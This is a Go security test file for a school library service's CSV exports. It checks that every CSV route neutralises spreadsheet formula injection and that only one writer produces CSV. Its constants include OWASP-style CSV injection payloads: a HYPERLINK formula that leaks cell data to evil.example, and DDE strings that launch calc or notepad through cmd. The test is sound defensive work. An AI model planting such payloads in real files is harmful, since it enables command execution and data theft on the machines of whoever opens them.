package test

// CSV exports safe to open: every CSV the service writes goes through one
// writer that makes a cell a spreadsheet would run into text.

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"
)

// Hostile values, one for each text column a CSV carries: each starts
// with a character that makes a spreadsheet run the cell (OWASP's CSV
// injection list, and a full-width form).
const (
	hostileTitle     = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	hostileAuthor    = `+SUM(1+1)*cmd|' /C calc'!A0`
	hostilePublisher = `-2+3+cmd|' /C calc'!A0`
	hostileCall      = `@SUM(1+1)`
	hostileGenre     = "\uFF1D1+1"
	hostileSubject   = `=cmd|' /C calc'!A0`
	hostileHomeroom  = `=1+1`
	hostileBarcode   = `@1+2`
	hostileStudent   = `-1+1+cmd|' /C notepad'!A0`
	unusedTitle      = `-1+2`
	unusedAuthor     = `@cmd`
)

// spreadsheetRuns reads a cell as a spreadsheet does: a formula character
// first, after any spaces, or a tab or carriage return first. A plain
// negative number is a number.
func spreadsheetRuns(cell string) bool {
	if regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`).MatchString(cell) {
		return false
	}
	if strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") {
		return true
	}
	r, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, unicode.IsSpace))
	return strings.ContainsRune("=+-@＝＋－＠", r)
}

// csvRoutes are the operations of openapi.json that answer text/csv.
func csvRoutes(t *testing.T) []string {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join("..", "adapters", "httpapi", "openapi.json"))
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Paths map[string]map[string]json.RawMessage `json:"paths"`
	}
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	var routes []string
	for path, ops := range doc.Paths {
		for method, rawOp := range ops {
			var op struct {
				Responses map[string]struct {
					Content map[string]any `json:"content"`
				} `json:"responses"`
			}
			if method == "parameters" || json.Unmarshal(rawOp, &op) != nil {
				continue
			}
			for _, resp := range op.Responses {
				if _, ok := resp.Content["text/csv"]; ok {
					routes = append(routes, strings.ToUpper(method)+" "+path)
					break
				}
			}
		}
	}
	slices.Sort(routes)
	return routes
}

// TestSecurityEveryCSVIsSafeToOpen stores a hostile value in every text
// column a CSV carries (titles, authors, publishers, subjects, genres, call
// numbers, barcodes, homerooms), then downloads every CSV route that
// openapi.json lists: read with a comma, a semicolon or a tab as the
// separator, no cell is one a spreadsheet runs, and each hostile value is
// there, made text. A CSV route without a case here fails the test.
func TestSecurityEveryCSVIsSafeToOpen(t *testing.T) {
	skipInContainer(t, "the test sets the in-process service's clock") // before it starts a service it cannot use
	w := newLibraryWorld(t)
	clock := setSchoolClock(t, w.s, time.Date(2031, 3, 2, 10, 0, 0, 0, time.UTC))
	r := w.s.do(req{Method: http.MethodPost, Path: "/api/library/students", Token: w.libB,
		Body: fmt.Sprintf(`{"name":%q,"homeroom":%q}`, hostileStudent, hostileHomeroom)})
	if r.Status != 201 {
		t.Fatalf("student: %d %s", r.Status, r.Body)
	}
	student := r.json(t)["student"].(map[string]any)["student_id"].(string)
	book, copies := w.addBook(t, w.libB, fmt.Sprintf(`{"title":%q,"author":%q,"publisher":%q,"call_number":%q,"genre":%q,"subjects":[%q],"published_year":2001,"copies":1}`,
		hostileTitle, hostileAuthor, hostilePublisher, hostileCall, hostileGenre, hostileSubject))
	if r := w.lend(w.libB, book, copies[0]["id"].(string), student); r.Status != 201 {
		t.Fatalf("lend: %d %s", r.Status, r.Body)
	}
	// A hold waits for the lent copy: the hostile title is in the hold queues.
	r = w.s.do(req{Method: http.MethodPost, Path: "/api/library/students", Token: w.libB, Body: `{"name":"Waiting Reader"}`})
	if r.Status != 201 {
		t.Fatalf("student: %d %s", r.Status, r.Body)
	}
	if h := w.placeHold(w.libB, book, r.json(t)["student"].(map[string]any)["student_id"].(string)); h.Status != 201 {
		t.Fatalf("hold: %d %s", h.Status, h.Body)
	}
	// Never borrowed at a level no grade of school B reads (grade 1: 0.0 to 3.9).
	w.addBook(t, w.libB, fmt.Sprintf(`{"title":%q,"author":%q,"reading_level":"9.0","copies":1}`, unusedTitle, unusedAuthor))
	r = w.s.do(req{Method: http.MethodPost, Path: "/api/library/students", Token: w.libB,
		Body: `{"name":"App Reader","grade":"1","email":"app-reader@riverside.example.org","password":"reading-owl-1234"}`})
	if r.Status != 201 {
		t.Fatalf("app reader: %d %s", r.Status, r.Body)
	}
	// An app book with hostile cells that school B's shelf lacks, read by its student.
	hostileApp := appBook(t, w.s, w.admin, hostileSubject, hostilePublisher, "")
	if r := w.s.do(req{Method: http.MethodPatch, Path: "/v1/books/" + hostileApp + "/progress", Token: w.s.login("app-reader@riverside.example.org", "reading-owl-1234").Access,
		Body: `{"page_number":10,"time_spent":60}`}); r.Status != 200 {
		t.Fatalf("read in the app: %d %s", r.Status, r.Body)
	}
	appRange := "&from=" + time.Now().AddDate(0, 0, -30).Format("2006-01-02") + "&to=" + time.Now().AddDate(0, 0, 2).Format("2006-01-02")
	file := "title,author,barcode\nImported Plainly,A. Author," + hostileBarcode + "\n"
	if r := w.importHoldings(w.libB, "csv", file, false); r.Status != 201 {
		t.Fatalf("import a hostile barcode: %d %s", r.Status, r.Body)
	}
	clock.Set(time.Date(2031, 6, 1, 10, 0, 0, 0, time.UTC)) // the loan is overdue

	const rng = "&from=2031-01-01&to=2031-12-31"
	cases := map[string]struct {
		path string
		want []string // hostile values the CSV carries
	}{
		"GET /api/library/reports/loans-per-month":             {"/api/library/reports/loans-per-month?format=csv" + rng, nil},
		"GET /api/library/reports/top-titles":                  {"/api/library/reports/top-titles?format=csv" + rng, []string{hostileTitle, hostileAuthor}},
		"GET /api/library/reports/overdue-by-homeroom":         {"/api/library/reports/overdue-by-homeroom?format=csv", []string{strings.ToUpper(hostileHomeroom)}},
		"GET /api/library/reports/collection-by-genre":         {"/api/library/reports/collection-by-genre?format=csv", []string{hostileGenre}},
		"GET /api/library/reports/collection-by-reading-level": {"/api/library/reports/collection-by-reading-level?format=csv", nil},
		"GET /api/library/reports/never-borrowed":              {"/api/library/reports/never-borrowed?format=csv", []string{unusedTitle, unusedAuthor}},
		"GET /api/library/reports/median-age":                  {"/api/library/reports/median-age?format=csv", nil},
		"GET /api/library/reports/hold-queues":                 {"/api/library/reports/hold-queues?format=csv", []string{hostileTitle, hostileAuthor}},
		"GET /api/library/reports/app-reading-not-held": {"/api/library/reports/app-reading-not-held?format=csv" + appRange,
			[]string{hostileSubject, hostilePublisher}},
		"GET /api/library/reports/never-borrowed-outside-grades": {"/api/library/reports/never-borrowed-outside-grades?format=csv",
			[]string{unusedTitle, unusedAuthor}},
		"GET /api/library/class/reading": {"/api/library/class/reading?format=csv&homeroom=" + url.QueryEscape(hostileHomeroom) + rng,
			[]string{hostileStudent}},
		// The log's cells begin with the service's own words (a field's
		// name, a summary); the hostile student's name and homeroom are
		// inside its changes cell, which must not be run either.
		"GET /api/library/audit": {"/api/library/audit?format=csv", nil},
		"GET /api/library/holdings/export": {"/api/library/holdings/export?format=csv",
			[]string{hostileTitle, hostileAuthor, hostilePublisher, hostileCall, hostileGenre, hostileSubject, hostileBarcode, unusedTitle, unusedAuthor}},
	}
	routes := csvRoutes(t)
	if len(routes) < len(cases) {
		t.Fatalf("openapi.json lists %d CSV routes (%v), fewer than the %d cases here", len(routes), routes, len(cases))
	}
	for _, route := range routes {
		tc, ok := cases[route]
		if !ok {
			t.Errorf("%s answers text/csv and has no hostile-value case here: add one", route)
			continue
		}
		r := w.s.do(req{Path: tc.path, Token: w.libB})
		if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
			t.Errorf("%s: %d %s %.300s", route, r.Status, r.Header.Get("Content-Type"), r.Body)
			continue
		}
		if cd := r.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=") || !strings.HasSuffix(cd, `.csv"`) {
			t.Errorf("%s: Content-Disposition %q, want an attachment named .csv", route, cd)
		}
		for _, sep := range []rune{',', ';', '\t'} {
			rd := csv.NewReader(bytes.NewReader(r.Body))
			rd.Comma, rd.FieldsPerRecord, rd.LazyQuotes = sep, -1, true
			records, err := rd.ReadAll()
			if err != nil {
				t.Errorf("%s: read with %q: %v", route, sep, err)
				continue
			}
			var cells []string
			for _, rec := range records {
				for _, c := range rec {
					if spreadsheetRuns(c) {
						t.Errorf("%s, read with %q: cell %q is run by a spreadsheet", route, sep, c)
					}
					cells = append(cells, c)
				}
			}
			if sep != ',' {
				continue
			}
			for _, h := range tc.want {
				found := slices.ContainsFunc(cells, func(c string) bool { return c == "'"+h || strings.HasPrefix(c, "'"+h+"; ") })
				if !found {
					t.Errorf("%s: no cell holds %q made text; cells %q", route, h, cells)
				}
			}
		}
	}
}

// TestSecurityCSVIsWrittenByOneWriter: no production code but core/csvout
// writes CSV with encoding/csv, so a new CSV download cannot skip the
// writer that makes its cells safe.
func TestSecurityCSVIsWrittenByOneWriter(t *testing.T) {
	root := ".."
	checked := 0
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, path)
		if d.IsDir() {
			// The load generator writes request bodies, not downloads.
			if (path != root && strings.HasPrefix(d.Name(), ".")) || d.Name() == "testdata" || rel == "bench" || rel == filepath.Join("core", "csvout") {
				return filepath.SkipDir
			}
			return nil
		}
		if !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		f, err := parser.ParseFile(token.NewFileSet(), path, nil, parser.SkipObjectResolution)
		if err != nil {
			return err
		}
		checked++
		for _, imp := range f.Imports {
			if imp.Path.Value != `"encoding/csv"` {
				continue
			}
			name := "csv"
			if imp.Name != nil {
				name = imp.Name.Name
			}
			ast.Inspect(f, func(n ast.Node) bool {
				if sel, ok := n.(*ast.SelectorExpr); ok && sel.Sel.Name == "NewWriter" {
					if x, ok := sel.X.(*ast.Ident); ok && x.Name == name {
						t.Errorf("%s writes CSV with encoding/csv: use core/csvout", rel)
					}
				}
				return true
			})
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if checked < 100 {
		t.Fatalf("checked only %d files", checked)
	}
}
